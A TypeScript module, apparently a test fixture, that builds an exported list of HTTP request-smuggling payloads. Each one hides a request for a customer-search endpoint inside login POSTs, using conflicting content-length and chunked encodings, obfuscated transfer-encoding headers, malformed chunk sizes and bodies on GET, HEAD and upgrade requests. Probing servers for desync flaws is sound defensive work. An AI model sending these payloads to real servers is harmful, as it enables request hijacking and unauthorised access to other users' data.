/** The path of the hidden call: nothing else in a run requests it. */
export const TARGET = '/api/customers/search';

/** Incomplete: only a following call on the same connection completes it. */
const OPEN_END = `GET ${TARGET}?phone=0 HTTP/1.1\r\nhost: shop\r\nx: `;
const WHOLE = `GET ${TARGET}?phone=0 HTTP/1.1\r\nhost: shop\r\n\r\n`;
const LAST_CHUNK = '0\r\n\r\n';
const chunkOf = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;

const post = (headers: string, body: string) =>
  `POST /api/auth/login HTTP/1.1\r\nhost: shop\r\ncontent-type: application/json\r\n${headers}\r\n${body}`;
const lengthOf = (text: string) => `content-length: ${text.length}\r\n`;

/** A side that uses the length sees one body; a side that uses the chunks sees their end, and then another call. */
const afterLastChunk = (header: string) =>
  post(`${lengthOf(LAST_CHUNK + OPEN_END)}${header}`, LAST_CHUNK + OPEN_END);
/** The opposite: for a side that uses the length, the body ends before the call that is inside the chunk. */
const withinChunk = (header: string) => {
  const body = chunkOf(WHOLE) + LAST_CHUNK;
  return post(`content-length: ${body.indexOf('\r\n') + 2}\r\n${header}`, body);
};

/** Notations of chunked encoding that one side may accept and the other not. */
const ENCODINGS: Record<string, string> = {
  'in pieces': 'transfer-encoding: chunked\r\n',
  'another word': 'transfer-encoding: xchunked\r\n',
  'a space before the colon': 'transfer-encoding : chunked\r\n',
  'a tab before the word': 'transfer-encoding:\tchunked\r\n',
  'a vertical tab before the word': 'transfer-encoding:\x0bchunked\r\n',
  'a sign after the word': 'transfer-encoding: chunked\x00\r\n',
  capitals: 'Transfer-Encoding: CHUNKED\r\n',
  'two codings': 'transfer-encoding: identity, chunked\r\n',
  'pieces not last': 'transfer-encoding: chunked, identity\r\n',
  'two headers': 'transfer-encoding: chunked\r\ntransfer-encoding: x\r\n',
  'two headers, the other order': 'transfer-encoding: x\r\ntransfer-encoding: chunked\r\n',
  'in quotes': 'transfer-encoding: "chunked"\r\n',
  'on the next line': 'transfer-encoding:\r\n chunked\r\n',
  'behind a bare line feed': 'x: y\ntransfer-encoding: chunked\r\n',
  'behind a bare return': 'x: y\rtransfer-encoding: chunked\r\n',
  'an underscore': 'transfer_encoding: chunked\r\n',
};

const LENGTHS: Record<string, (length: number) => string> = {
  'two lengths, nought first': (length) => `content-length: 0\r\ncontent-length: ${length}\r\n`,
  'two lengths, nought last': (length) => `content-length: ${length}\r\ncontent-length: 0\r\n`,
  'a list of lengths': (length) => `content-length: 0, ${length}\r\n`,
  'a sign before the length': () => 'content-length: +0\r\n',
  'a hexadecimal length': () => 'content-length: 0x0\r\n',
  'a length on the next line': () => 'content-length:\r\n 0\r\n',
  'a space before the colon of the length': () => 'content-length : 0\r\n',
  'a length behind a bare line feed': () => 'x: y\ncontent-length: 0\r\n',
};

const PIECES: Record<string, string> = {
  'a piece larger than any': `fffffffffffffff1\r\n${OPEN_END}`,
  'a piece of a negative size': `-1\r\n${OPEN_END}`,
  'a line feed within the words after a size': `2;\nxx\r\n${chunkOf(WHOLE)}${LAST_CHUNK}`,
  'a size that ends in a bare line feed': `0\n\n${OPEN_END}`,
  'a size that ends in a bare return': `0\r\r${OPEN_END}`,
  'a space before the size': ` 0\r\n\r\n${OPEN_END}`,
  'two signs instead of the end of a piece': `1\r\naXX0\r\n\r\n${OPEN_END}`,
  'a size in another notation': `0x0\r\n\r\n${OPEN_END}`,
};

/** Each with the bytes that an attacker sends on a connection. */
export const SMUGGLING: [string, string][] = [
  ...Object.entries(ENCODINGS).flatMap(([what, header]): [string, string][] => [
    [`a length beside pieces, ${what}: after the last`, afterLastChunk(header)],
    [`a length beside pieces, ${what}: within one`, withinChunk(header)],
  ]),
  ...Object.entries(LENGTHS).map(([what, header]): [string, string] => [
    what,
    post(header(OPEN_END.length), OPEN_END),
  ]),
  ...Object.entries(PIECES).map(([what, body]): [string, string] => [
    what,
    post('transfer-encoding: chunked\r\n', body),
  ]),
  ['a body where none belongs', `GET /api/health HTTP/1.1\r\nhost: shop\r\n${lengthOf(WHOLE)}\r\n${WHOLE}`],
  ['a body for a file', `POST /index.html HTTP/1.1\r\nhost: shop\r\n${lengthOf(WHOLE)}\r\n${WHOLE}`],
  ['a body for what is not there', `POST /nothing HTTP/1.1\r\nhost: shop\r\n${lengthOf(WHOLE)}\r\n${WHOLE}`],
  ['a body that was to be asked for', post(`expect: 100-continue\r\n${lengthOf(WHOLE)}`, WHOLE)],
  ['a body that another word asks for', post(`expect: y 100-continue\r\n${lengthOf(WHOLE)}`, WHOLE)],
  ['a body beside a head only', `HEAD /api/health HTTP/1.1\r\nhost: shop\r\n${lengthOf(WHOLE)}\r\n${WHOLE}`],
  [
    'a body beside a handshake',
    `GET /ws HTTP/1.1\r\nhost: shop\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 777\r\n${lengthOf(WHOLE)}\r\n${WHOLE}`,
  ],
  ['a length that is passed on by hop', post(`connection: content-length\r\n${lengthOf(WHOLE)}`, WHOLE)],
  [
    'an old version with pieces',
    withinChunk('transfer-encoding: chunked\r\n').replace('HTTP/1.1', 'HTTP/1.0'),
  ],
];
